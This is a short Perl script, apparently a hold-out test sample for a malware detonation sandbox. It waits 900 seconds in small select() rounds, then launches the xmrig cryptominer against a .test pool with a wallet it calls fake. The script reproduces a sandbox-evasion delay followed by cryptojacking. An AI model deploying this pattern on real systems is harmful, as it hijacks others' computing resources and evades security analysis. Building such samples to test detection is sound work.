#!/usr/bin/perl
# Waits 900 s as 3,600 rounds of four-argument select of 0.25 s, then mines (detonate hold-out
# test sample; harmless, fake wallet, .test pool). Runs on Debian's perl-base alone.
use strict;
use warnings;

my $pool   = "stratum+tcp://pool.waits.test:3333";
my $wallet = "4gFQq7j6mGoN4BVFcUaKyRnGd8WaNeP4akE6cZXCGD8DVQPRvaf8Wmhx7NUY2zNq4ft41UhEt2JMeDANLfk6c6mjf7Z9sS8";
$| = 1;
print "waiting 900 s in select(undef, undef, undef, 0.25) rounds\n";
my $started = time;
for my $round (1 .. 3600) {
    select(undef, undef, undef, 0.25);
}
printf "waited %d s; starting the miner\n", time - $started;
exec { "/usr/local/bin/xmrig" } "xmrig", "-o", $pool, "-u", $wallet, "--shares", "1";
die "exec /usr/local/bin/xmrig: $!";
